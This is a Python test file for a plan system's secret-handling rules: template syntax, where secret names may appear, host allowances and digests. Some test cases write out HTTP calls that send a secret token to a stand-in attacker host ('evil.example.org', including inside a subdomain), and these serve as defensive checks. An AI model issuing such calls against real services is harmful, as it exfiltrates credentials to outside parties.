"""How a plan names secrets, what it may not do with them, and what people decide about: the name, never the value."""

from __future__ import annotations

from typing import Any

import pytest

from plansurvive.features.planning.drafting import Draft, draft_of
from plansurvive.features.planning.recovery import choice_problems
from plansurvive.features.secrets.language import LANGUAGE
from plansurvive.features.secrets.model import NamedSecrets, SecretUse
from plansurvive.features.secrets.naming import filled, misuse, names_in
from plansurvive.features.secrets.permissions import allowed_to, places_of_agent, with_allowed
from plansurvive.features.secrets.rules import RULES
from plansurvive.plans.activity_io import Call, Facts
from plansurvive.plans.definition.checks.validation import problems
from plansurvive.plans.llm.answers import PlanAnswer, Recovery
from plansurvive.plans.model import Input, Retry, Step, ToolSpec
from plansurvive.plans.model.tool_spec import joined
from plansurvive.plans.run import Run
from plansurvive.plans.run.feature import RuleSet
from plansurvive.plans.run.step_call import StepValues, digest_of, filled_args, upcoming
from tests.plans.building import NOW, TOOLS, begun, completed, plan_of, spec, step

USES = {"TOKEN": SecretUse(hosts=["api.example.org"]), "OWN": SecretUse(hosts=["*"], models=True)}
HTTP = TOOLS["http_request"]
SPECS: dict[str, ToolSpec] = {
    **TOOLS,
    "note": with_allowed(TOOLS["note"], USES),
    "run_command": with_allowed(TOOLS["run_command"], USES),
    "http_request": with_allowed(
        HTTP.model_copy(update={"args_schema": {"properties": {**HTTP.args_schema["properties"], "headers": {}}}}), USES
    ),
    "delete_file": spec("delete_file", {"path": {"type": "string"}}),
}


def call(tool: str, **args: Any) -> Step:
    return step("a", tool=tool, args=args)


def codes(*steps: Step, tools: dict[str, ToolSpec] = SPECS, **fields: Any) -> list[tuple[str, str | None]]:
    return [
        (each.code, each.field)
        for each in problems(plan_of(*steps, **fields), tools, language=LANGUAGE)
        if each.severity == "error"
    ]


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("{{secret.TOKEN}}", ["TOKEN"]),
        ("Bearer {{ secret.TOKEN }}", ["TOKEN"]),
        ("{{secret.A}}:{{secret.B}}", ["A", "B"]),
        ("{{{{secret.TOKEN}}}}", []),
        ("$$ {{secret.TOKEN}}", []),
        ("secret.TOKEN", []),
        ("{{secrets.TOKEN}}", []),
    ],
)
def test_a_text_names_secrets_between_braces(text: str, names: list[str]) -> None:
    assert names_in(text) == names
    assert not misuse(text)


@pytest.mark.parametrize(
    "text",
    ["$secret.TOKEN", "$secret", "{{secret}}", "{{secret.*}}", "{{secret.A.b}}", "{{secret | keys(@)}}",
     "{{secret.A | length(@)}}", "{{secret['A']}}", "{{secret.\"A\"}}", "{{step}} {{secret.A}}",
     "{{secret.A}} {{inputs.x}}"],
)  # fmt: skip
def test_whatever_else_begins_with_secret_is_refused(text: str) -> None:
    assert misuse(text)
    assert names_in(text) == []


def test_a_secret_is_filled_in_once_and_nothing_in_it_is_looked_at_again() -> None:
    values = {"A": "{{secret.B}}$x{{step}}", "B": "b"}
    assert filled("x{{ secret.A }}y{{secret.B}}", values) == "x{{secret.B}}$x{{step}}yb"
    assert filled("{{{{secret.A}}}} {{secret.B}}", values) == "{{secret.A}} b"
    assert filled("{{{{secret.A}}}} {{x}} {{secret.B}}", values, literal=True) == "{{{{secret.A}}}} {{x}} b"


@pytest.mark.parametrize(
    ("found", "code", "field"),
    [
        (call("note", text="{{secret.TOKEN}}"), "", ""),
        (call("note", text=[{"deep": "Bearer {{secret.TOKEN}}"}]), "", ""),
        (call("note", text="{{secret.TOKNE}}"), "UNKNOWN_SECRET", "args.text"),
        (call("read_file", path="{{secret.TOKEN}}"), "SECRET_REFUSED", "args.path"),
        (call("run_command", command="echo {{secret.TOKEN}}"), "SECRET_MISPLACED", "args.command"),
        (call("run_command", command="true", env={"T": "{{secret.TOKEN}}"}), "", ""),
        (call("note", text="$secret.TOKEN"), "SECRET_MISPLACED", "args.text"),
        (call("note", text="{{secret.TOKEN}} {{inputs.name}}"), "SECRET_MISPLACED", "args.text"),
        (call("sleep", seconds="{{secret.TOKEN}}"), "SECRET_MISPLACED", "args.seconds"),
        (call("http_request", url="https://api.example.org/", headers={"A": "{{secret.TOKEN}}"}), "", ""),
        (call("http_request", url="https://evil.example.org/", headers={"A": "{{secret.TOKEN}}"}),
         "SECRET_REFUSED", "args.headers.A"),
        (call("http_request", url="https://evil.example.org/", headers={"A": "{{secret.OWN}}"}), "", ""),
        (call("http_request", url="https://{{secret.TOKEN}}.evil.org/"), "", ""),
        (step("a", when="secret.TOKEN == 'x'"), "SECRET_MISPLACED", "when"),
        (step("a", forEach="secret.TOKEN"), "SECRET_MISPLACED", "forEach.items"),
        (step("a", forEach=["{{secret.TOKEN}}"]), "SECRET_MISPLACED", "forEach.0"),
        (step("a", undo={"tool": "read_file", "args": {"path": "{{secret.TOKEN}}"}}), "SECRET_REFUSED",
         "undo.args.path"),
    ],
)  # fmt: skip
def test_the_check_says_which_secret_cannot_stand_where(found: Step, code: str, field: str) -> None:
    wrong = codes(found, inputs={"name": Input(type="string", default="x")})
    wrong = [each for each in wrong if each[0] != "INVALID_ARGS"]  # a text is no number of seconds either
    assert [each for each, _ in wrong] == ([code] if code else []), wrong
    if code and not field.startswith("forEach"):
        assert wrong[0][1] == field


def test_outputs_cannot_have_a_secret() -> None:
    assert codes(step("a"), outputs={"x": "secret.TOKEN"}) == [("SECRET_MISPLACED", "outputs.x")]


def test_a_misspelt_secret_has_a_hint() -> None:
    [problem] = problems(plan_of(call("note", text="{{secret.TOKNE}}")), SPECS, language=LANGUAGE)
    assert problem.message.endswith("; did you mean 'TOKEN'?")


def test_a_step_called_secret_keeps_its_meaning() -> None:
    plan = [step("secret"), step("b", "secret", args={"text": "{{secret.x}}"})]
    assert codes(*plan) == []
    run = run_of_call(*plan, secret={"x": "of the step"})
    made = filled_args(run, plan[1], StepValues(run, ()))
    assert made.args["text"] == "of the step"
    assert named(run, plan[1]) == []


def run_of_call(*steps: Step, **values: Any) -> Run:
    """A run of the steps, some of which have completed with a value."""
    schedule = begun(*steps)
    schedule.run.facts, schedule.run.language = Facts(tools=SPECS), LANGUAGE
    for name, value in values.items():
        schedule.start(name, NOW)
        schedule.settle(name, completed(value), NOW)
    return schedule.run


def named(run: Run, chosen: Step) -> list[list[str | int]]:
    """The places of secrets that go along with the step's call."""
    made = Call(args={}, plan_id="p", step_id="a", key="k", workspace="/w", timeout=1.0, retry=Retry())
    return RuleSet([RULES]).extended(run, chosen, made).part(NamedSecrets).places


def test_the_workflow_leaves_secrets_to_the_worker_and_the_digest_binds_the_name() -> None:
    first = call("note", text={"a": "Bearer {{secret.TOKEN}}", "b": "plain"})
    run = run_of_call(first)
    made = filled_args(run, first, StepValues(run, ()))
    assert made.args == first.args
    assert (made.deferred, made.withheld) == ([], [["text", "a"]])
    assert named(run, first) == [["text", "a"]]
    digests = {
        digest_of(upcoming(run, first, {"text": text}).call)
        for text in ("{{secret.TOKEN}}", "{{secret.OWN}}", "{{{{secret.TOKEN}}}}")
    }
    assert len(digests) == 3, "another name, and the text itself, are other calls"
    assert upcoming(run, first).is_whole
    assert upcoming(run, first).is_written


@pytest.mark.parametrize("text", ["{{secret.NONE}}", "$secret.TOKEN", "{{secret.TOKEN}} {{inputs.name}}"])
def test_what_a_check_would_refuse_is_left_as_it_is_for_the_worker_to_refuse(text: str) -> None:
    first = call("note", text=text)
    run = run_of_call(first)
    assert filled_args(run, first, StepValues(run, ())).args == {"text": text}
    assert named(run, first) == [["text"]]


def test_a_value_of_a_step_never_names_a_secret() -> None:
    run = run_of_call(step("a"), step("b", "a", uses=("a",)), a="{{secret.TOKEN}}")
    made = filled_args(run, run.plan.steps[1], StepValues(run, ("a",)))
    assert (made.args, made.deferred) == ({"text": ["{{secret.TOKEN}}"]}, [])
    assert named(run, run.plan.steps[1]) == []


def test_an_agent_names_only_secrets_that_models_may_and_all_other_texts_stay() -> None:
    args = {"text": ["{{secret.OWN}}", "{{secret.TOKEN}}", "{{x}} {{secret.OWN}}", "$secret.OWN"]}
    assert places_of_agent(SPECS["note"], args) == [["text", 0]]
    assert places_of_agent(SPECS["run_command"], {"command": "{{secret.OWN}}"}) == []
    assert places_of_agent(TOOLS["note"], args) == []


def test_workers_of_two_queues_may_each_allow_a_tool_other_secrets() -> None:
    other = with_allowed(TOOLS["note"].model_copy(update={"description": "newer"}), {"THEIRS": USES["OWN"]})
    found = joined(SPECS, {"note": other, "more": other})
    assert (set(allowed_to(found["note"])), found["note"].description) == ({"TOKEN", "OWN", "THEIRS"}, "newer")
    assert found["note"].withheld == ["secret"]
    assert found["more"] is other
    assert list(joined(TOOLS, {})) == list(TOOLS)


def test_a_model_that_writes_a_plan_may_name_what_models_may_and_what_was_there() -> None:
    first = call("note", text="{{secret.TOKEN}}")
    assert drafted(first) == [("UNKNOWN_SECRET", "args.text")]
    assert drafted(first, before=first) == []
    assert drafted(call("note", text="{{secret.OWN}}")) == []


def drafted(new: Step, *, before: Step | None = None) -> list[tuple[str, str | None]]:
    """The problems of a draft with this step, of a plan that had another one."""
    run = run_of_call(*([before] if before else [step("other")]))
    made = draft_of(run, run.plan, PlanAnswer(plan=plan_of(new)))
    assert isinstance(made, Draft)
    return [(each.code, each.field) for each in made.problems]


def test_a_model_that_repairs_a_step_may_name_what_models_may_and_what_was_there() -> None:
    assert repaired("{{secret.TOKEN}}", "{{secret.TOKEN}}") == []
    assert repaired("plain", "{{secret.OWN}}") == []
    [text] = repaired("plain", "{{secret.TOKEN}}")
    assert "there is no secret TOKEN that note may use" in text


def repaired(was: str, text: str) -> list[str]:
    """What is wrong with a recovery that replaces the text of a step."""
    first = call("note", text=was)
    run = run_of_call(first)
    return choice_problems(run, first, Recovery(action="retry", args={"text": text}, reason="r"), NOW)
